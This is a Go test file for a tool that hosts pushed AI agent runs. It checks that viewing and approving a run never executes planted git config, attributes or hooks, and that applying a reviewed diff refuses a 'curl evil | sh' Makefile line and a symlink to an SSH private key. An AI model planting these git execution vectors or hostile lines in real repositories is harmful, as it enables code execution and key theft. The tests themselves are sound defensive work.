package cli

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/proctor-dev/proctor/internal/bundle"
	"github.com/proctor-dev/proctor/internal/store"
	"github.com/proctor-dev/proctor/internal/testutil"
)

// pushedRun makes a real run in a pusher's data folder, on a folder of
// three lines: the agent changes a.txt (its second line, and a fourth) and
// writes b.txt. It returns the pusher's data folder, the run's id and its
// folder, and a copy of the source as it was (a checkout at the run's base).
func pushedRun(t *testing.T) (data, id, runDir, checkout string) {
	t.Helper()
	data, src, dir := t.TempDir(), t.TempDir(), t.TempDir()
	writeTree(t, src, map[string]string{"a.txt": "one\ntwo\nthree\n"})
	checkout = t.TempDir()
	writeTree(t, checkout, map[string]string{"a.txt": "one\ntwo\nthree\n"})
	writeTree(t, dir, map[string]string{"model.yaml": "steps:\n  - reply: {tool_calls: [{name: write_file, arguments: {path: a.txt, content: \"one\\nTWO\\nthree\\nfour\\n\"}}, {name: write_file, arguments: {path: b.txt, content: \"bee\\n\"}}]}\n  - reply: {content: done}\n"})
	r := invoke(t, map[string]string{"PROCTOR_DATA": data, "PATH": os.Getenv("PATH")}, "run", "--dir", src, "--task", "Change a.txt", "--script", filepath.Join(dir, "model.yaml"), "--sandbox", "off")
	m := regexp.MustCompile(`runs/(\S+)`).FindStringSubmatch(r.stdout)
	if r.code != ExitOK || m == nil {
		t.Fatalf("the run: %+v", r)
	}
	return data, m[1], filepath.Join(data, "runs", m[1]), checkout
}

// plantHostileGit makes the run's repositories run a program on whatever
// git opens them: config that runs code (a smudge and a clean filter,
// fsmonitor, textconv, an external diff, a hooks path), attributes that
// call on it, and hooks.
func plantHostileGit(t testing.TB, runDir, marker string) {
	t.Helper()
	evil := filepath.Join(t.TempDir(), "evil.sh")
	os.WriteFile(evil, []byte("#!/bin/sh\necho ran \"$@\" >> "+marker+"\ncat\n"), 0o755)
	config := "\n[core]\n\tfsmonitor = " + evil + "\n\thooksPath = " + filepath.Dir(evil) + "\n[filter \"x\"]\n\tsmudge = " + evil + "\n\tclean = " + evil +
		"\n\trequired = true\n[diff \"x\"]\n\ttextconv = " + evil + "\n[diff]\n\texternal = " + evil + "\n"
	for _, repo := range []string{filepath.Join(runDir, "workspace.git"), filepath.Join(runDir, "workspace", ".git")} {
		if info, err := os.Stat(repo); err != nil || !info.IsDir() {
			os.Remove(repo)
			os.MkdirAll(repo, 0o755)
		}
		f, err := os.OpenFile(filepath.Join(repo, "config"), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
		if err != nil {
			t.Fatal(err)
		}
		f.WriteString(config)
		f.Close()
		os.MkdirAll(filepath.Join(repo, "info"), 0o755)
		os.WriteFile(filepath.Join(repo, "info", "attributes"), []byte("* filter=x diff=x export-subst\n"), 0o644)
		os.MkdirAll(filepath.Join(repo, "hooks"), 0o755)
		for _, hook := range []string{"post-checkout", "pre-commit", "post-index-change", "reference-transaction"} {
			os.WriteFile(filepath.Join(repo, "hooks", hook), []byte("#!/bin/sh\necho hook >> "+marker+"\n"), 0o755)
		}
	}
	os.WriteFile(filepath.Join(runDir, "workspace", ".gitattributes"), []byte("* filter=x diff=x\n"), 0o644)
}

// setReceiptSource rewrites the run's receipt to name another source
// folder, as a pusher may.
func setReceiptSource(t testing.TB, runDir, path string) {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(runDir, "run.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rc map[string]any
	json.Unmarshal(raw, &rc)
	rc["source"].(map[string]any)["path"] = path
	out, _ := json.MarshalIndent(rc, "", "  ")
	os.WriteFile(filepath.Join(runDir, "run.json"), out, 0o644)
}

// A push-only attacker plants every kind of git config and attribute that
// runs code in a pushed run's repositories, and has its receipt name a
// folder of the host outside every source root. On the host, viewing the
// run, approving it part by part with an edit, its mbox, its decision and
// a second approval after the unpack cache is deleted run nothing and write
// no folder: the decision is recorded once, in the index and across a
// rebuild, and a CI checkout gets exactly what was decided with apply
// --from.
func TestAPushedRunIsData(t *testing.T) {
	marker := filepath.Join(t.TempDir(), "pwned")
	pusher, id, runDir, checkout := pushedRun(t)
	plantHostileGit(t, runDir, marker)
	outside := t.TempDir() // a folder of the host's that no source root holds
	writeTree(t, outside, map[string]string{"a.txt": "one\ntwo\nthree\n"})
	setReceiptSource(t, runDir, outside)

	host, roots := t.TempDir(), t.TempDir()
	_, srv := serveChild(t, host, roots)
	if r := invoke(t, map[string]string{"PROCTOR_DATA": pusher, "PROCTOR_TOKEN": srv.secret}, "push", srv.url, runDir); r.code != ExitOK || !strings.Contains(r.stdout, "pushed ") {
		t.Fatalf("push: %+v", r)
	}
	get := func(path string) (int, string) {
		resp, err := srv.get(t, path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}
	for _, page := range []string{"/runs/" + id, "/runs/" + id + "/diff/0", "/runs/" + id + "/diff/0/lines?from=1&to=3&shift=0", "/api/v1/runs/" + id} {
		get(page)
	}
	if code, body := get("/runs/" + id); code != http.StatusOK || !strings.Contains(body, `id="review-pushed"`) || strings.Contains(body, "applies this diff to <code>"+outside) {
		t.Fatalf("the run's page: %d; it must say the run was pushed and offer its change, never name %s as where it applies", code, outside)
	}
	edit := "one\nTwo\nthree\nfour"
	code, out := srv.postJSON(t, "/api/v1/runs/"+id+"/review", `{"decision": "approve", "reviewer": "ana", "parts": [{"file": 0, "hunk": 0, "accept": true, "edit": "one\nTwo\nthree\nfour"}, {"file": 1, "hunk": -1, "accept": false}]}`)
	if code != http.StatusOK {
		t.Fatalf("approve in part: %d %v", code, out)
	}
	get("/runs/" + id + "/patch.mbox")
	if got, err := os.ReadFile(marker); err == nil {
		t.Fatalf("the host ran the pushed repository's program: %s", got)
	}
	if a, _ := os.ReadFile(filepath.Join(outside, "a.txt")); string(a) != "one\ntwo\nthree\n" {
		t.Fatalf("the approval wrote the folder the pusher named: %q", a)
	}
	if entries, _ := os.ReadDir(roots); len(entries) > 0 {
		t.Fatalf("the approval wrote the source roots: %v", entries)
	}
	// Recorded, indexed, offered; durable across the cache and a rebuild.
	review := func() string {
		_, body := get("/api/v1/runs/" + id)
		var r struct {
			ReviewState string `json:"review_state"`
		}
		json.Unmarshal([]byte(body), &r)
		return r.ReviewState
	}
	if state := review(); state != "approved" {
		t.Fatalf("the index says the pushed run is %q after its approval", state)
	}
	if code, mbox := get("/runs/" + id + "/patch.mbox"); code != http.StatusOK || !strings.Contains(mbox, "+Two") || strings.Contains(mbox, "bee") {
		t.Fatalf("the mbox: %d\n%s", code, mbox)
	}
	if err := os.RemoveAll(filepath.Join(host, "runs", ".unpacked")); err != nil {
		t.Fatal(err)
	}
	if code, out := srv.postJSON(t, "/api/v1/runs/"+id+"/review", `{"decision": "approve", "reviewer": "bo"}`); code != http.StatusConflict {
		t.Fatalf("a second approval after the unpack cache was deleted: %d %v", code, out)
	}
	if r := invoke(t, map[string]string{"PROCTOR_DATA": host}, "index", "--rebuild", filepath.Join(host, "runs"), filepath.Join(host, "sessions")); r.code != ExitOK {
		t.Fatalf("rebuild: %+v", r)
	}
	if state := review(); state != "approved" {
		t.Fatalf("after index --rebuild the pushed run is %q", state)
	}
	st, err := store.Open(context.Background(), filepath.Join(host, "proctor.db"))
	if err != nil {
		t.Fatal(err)
	}
	entries, _, err := st.ListAudit(context.Background(), 0, 100)
	st.Close()
	approvals := 0
	for _, e := range entries {
		if e.Object == id && strings.HasPrefix(e.Action, "approve") {
			approvals++
		}
	}
	if err != nil || approvals != 1 {
		t.Fatalf("%d approvals of the run in the audit log (%v), want 1", approvals, err)
	}
	// CI lands what was decided on the host: a.txt as edited, b.txt not at
	// all; a second time finds a.txt is no longer what the run started from.
	env := map[string]string{"PROCTOR_DATA": t.TempDir(), "PROCTOR_TOKEN": srv.secret}
	if r := invoke(t, env, "apply", id, "--from", srv.url, "--to", checkout); r.code != ExitOK || !strings.Contains(r.stdout, "applied to") {
		t.Fatalf("apply --from: %+v", r)
	}
	if a, _ := os.ReadFile(filepath.Join(checkout, "a.txt")); string(a) != edit+"\n" {
		t.Fatalf("the checkout's a.txt: %q, want the edit %q", a, edit+"\n")
	}
	if _, err := os.Stat(filepath.Join(checkout, "b.txt")); err == nil {
		t.Fatal("the rejected b.txt was applied")
	}
	if r := invoke(t, env, "apply", id, "--from", srv.url, "--to", checkout); r.code != ExitProblems || !strings.Contains(r.stderr+r.stdout, "a.txt") {
		t.Fatalf("apply --from a second time: %+v", r)
	}
	if got, err := os.ReadFile(marker); err == nil {
		t.Fatalf("something ran the pushed repository's program: %s", got)
	}
}

// An approval of a pushed run writes a folder of the host only where the
// host's admin mapped its source (serve --apply-pushed), checked against
// the recorded diff: the folder must hold what the run started from.
func TestAPushedRunAppliesOnlyWhereTheHostMapsIt(t *testing.T) {
	pusher, id, runDir, _ := pushedRun(t)
	raw, _ := os.ReadFile(filepath.Join(runDir, "run.json"))
	var rc struct {
		Source struct{ Path string }
	}
	json.Unmarshal(raw, &rc)
	host, roots := t.TempDir(), t.TempDir()
	mapped := filepath.Join(roots, "proj")
	writeTree(t, mapped, map[string]string{"a.txt": "one\ntwo\nthree\n"})
	_, srv := serveChild(t, host, roots, "--apply-pushed", rc.Source.Path+"="+mapped)
	if r := invoke(t, map[string]string{"PROCTOR_DATA": pusher, "PROCTOR_TOKEN": srv.secret}, "push", srv.url, runDir); r.code != ExitOK {
		t.Fatalf("push: %+v", r)
	}
	if code, out := srv.postJSON(t, "/api/v1/runs/"+id+"/review", `{"decision": "approve", "reviewer": "ana"}`); code != http.StatusOK {
		t.Fatalf("approve: %d %v", code, out)
	}
	a, _ := os.ReadFile(filepath.Join(mapped, "a.txt"))
	b, _ := os.ReadFile(filepath.Join(mapped, "b.txt"))
	if string(a) != "one\nTWO\nthree\nfour\n" || string(b) != "bee\n" {
		t.Fatalf("the mapped folder: a.txt %q, b.txt %q", a, b)
	}
	// A folder outside every source root cannot be mapped.
	if r := invokeIn(t, t.TempDir(), "", "serve", "--addr", "127.0.0.1:0", "--source-root", roots, "--apply-pushed", "x="+t.TempDir()); r.code != ExitUsage || !strings.Contains(r.stderr, "not under a --source-root") {
		t.Fatalf("--apply-pushed outside the roots: %+v", r)
	}
}

// proctor push DATA brings the data folder's sessions with its runs: the
// host shows each session with its runs, the newest copy pushed, and
// never continues one (its workspace and source were named by the pusher).
func TestAPushedDataFolderBringsItsSessions(t *testing.T) {
	pusher, src, dir := t.TempDir(), t.TempDir(), t.TempDir()
	writeTree(t, src, map[string]string{"a.txt": "one\n"})
	writeTree(t, dir, map[string]string{
		"one.yaml": "steps:\n  - reply: {tool_calls: [{name: write_file, arguments: {path: a.txt, content: \"two\\n\"}}]}\n  - reply: {content: done}\n",
		"two.yaml": "steps:\n  - reply: {tool_calls: [{name: write_file, arguments: {path: b.txt, content: \"bee\\n\"}}]}\n  - reply: {content: done}\n",
	})
	env := map[string]string{"PROCTOR_DATA": pusher, "PATH": os.Getenv("PATH")}
	if r := invoke(t, env, "run", "--session", "new", "--dir", src, "--task", "First", "--script", filepath.Join(dir, "one.yaml"), "--sandbox", "off"); r.code != ExitOK {
		t.Fatalf("the first run: %+v", r)
	}
	files, _ := filepath.Glob(filepath.Join(pusher, "sessions", "sess-*.json"))
	if len(files) != 1 {
		t.Fatalf("sessions: %v", files)
	}
	sid := strings.TrimSuffix(filepath.Base(files[0]), ".json")

	host, roots := t.TempDir(), t.TempDir()
	_, srv := serveChild(t, host, roots)
	env["PROCTOR_TOKEN"] = srv.secret
	r := invoke(t, env, "push", srv.url, pusher)
	if r.code != ExitOK || !strings.Contains(r.stdout, "(1 sessions)") {
		t.Fatalf("push: %+v", r)
	}
	page := func() string {
		resp, err := srv.get(t, "/sessions/"+sid)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("the session's page: %d %s", resp.StatusCode, body)
		}
		return string(body)
	}
	if body := page(); !strings.Contains(body, `id="session-pushed"`) || strings.Contains(body, `id="continue-form"`) || strings.Count(body, `href="/runs/20`) != 1 {
		t.Fatalf("the pushed session's page must list its run and offer no continue:\n%s", body)
	}
	if code, out := srv.postJSON(t, "/sessions/"+sid+"/continue", `{"task": "go on", "model": "script:builtin:demo.yaml"}`); code != http.StatusConflict {
		t.Fatalf("continue a pushed session: %d %v", code, out)
	}

	// The session goes on where it ran; pushed again, the host keeps the
	// newer copy, across a rebuild.
	if r := invoke(t, env, "run", "--session", sid, "--task", "Second", "--script", filepath.Join(dir, "two.yaml"), "--sandbox", "off"); r.code != ExitOK {
		t.Fatalf("the second run: %+v", r)
	}
	if r := invoke(t, env, "push", srv.url, pusher); r.code != ExitOK || !strings.Contains(r.stdout, "pushed "+filepath.Join(pusher, "sessions")+" (1 sessions)") {
		t.Fatalf("push again: %+v", r)
	}
	if body := page(); strings.Count(body, `href="/runs/20`) != 2 {
		t.Fatalf("the session's page after the second push:\n%s", body)
	}
	if r := invoke(t, map[string]string{"PROCTOR_DATA": host}, "index", "--rebuild", filepath.Join(host, "runs"), filepath.Join(host, "sessions")); r.code != ExitOK || !strings.Contains(r.stdout, "indexed 3, unchanged 0, removed 0, problems 0") {
		t.Fatalf("rebuild: %+v", r)
	}
	if body := page(); strings.Count(body, `href="/runs/20`) != 2 {
		t.Fatalf("the session's page after a rebuild:\n%s", body)
	}
}

// A host's decision is hostile input to `apply --from`: approved there as
// a whole, a link out of the tree (keylink -> the CI's ssh key) is not
// made in the checkout, and an accepted change to a path the recorded diff
// never names is refused — the local gate's rules, and nothing written.
func TestApplyFromHoldsTheLocalGatesRules(t *testing.T) {
	base := map[string]string{"a.txt": "old\n"}
	linkOut := testutil.RecordedDiff(t, base, map[string]string{"a.txt": "new\n", "keylink": "-> /root/.ssh/id_rsa"})
	unnamed := testutil.RecordedDiff(t, map[string]string{"a.txt": "old\n", "Makefile": "all:\n"}, map[string]string{"a.txt": "new\n", "Makefile": "all:\n\tcurl evil | sh\n"})
	change := testutil.RecordedDiff(t, base, map[string]string{"a.txt": "new\n"})
	const id = "20261207-120000-abcdef"
	for _, tc := range []struct {
		name, diff, accepted string
		parts                []bundle.ReviewPart
		want                 string
		applied              bool
	}{
		{name: "a link out approved as a whole", diff: linkOut, accepted: linkOut, want: "keylink -> /root/.ssh/id_rsa"},
		{name: "a path the recorded diff does not name", diff: change, accepted: unnamed, want: "Makefile"},
		{name: "a link out accepted part by part", diff: linkOut, accepted: linkOut, parts: []bundle.ReviewPart{{Path: "a.txt"}, {Path: "keylink"}}, applied: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				json.NewEncoder(w).Encode(bundle.ReviewedChange{RunID: id, Status: bundle.StatusPassed, Diff: tc.diff, Accepted: tc.accepted,
					Review: &bundle.Review{Approved: true, ReviewedBy: "host", HasDiff: true, AppliedParts: tc.parts}})
			}))
			defer host.Close()
			checkout := t.TempDir()
			writeTree(t, checkout, map[string]string{"a.txt": "old\n", "Makefile": "all:\n"})
			r := invoke(t, map[string]string{"PROCTOR_DATA": t.TempDir()}, "apply", id, "--from", host.URL, "--to", checkout)
			if tc.applied {
				if r.code != ExitOK {
					t.Fatalf("%+v", r)
				}
				return
			}
			if r.code != ExitProblems || !strings.Contains(r.stderr, tc.want) {
				t.Fatalf("%+v, want exit %d naming %q", r, ExitProblems, tc.want)
			}
			if _, err := os.Lstat(filepath.Join(checkout, "keylink")); err == nil {
				t.Error("the link out of the tree was made")
			}
			if a, _ := os.ReadFile(filepath.Join(checkout, "a.txt")); string(a) != "old\n" {
				t.Errorf("a.txt was written: %q", a)
			}
			if m, _ := os.ReadFile(filepath.Join(checkout, "Makefile")); string(m) != "all:\n" {
				t.Errorf("the Makefile was written: %q", m)
			}
		})
	}
}
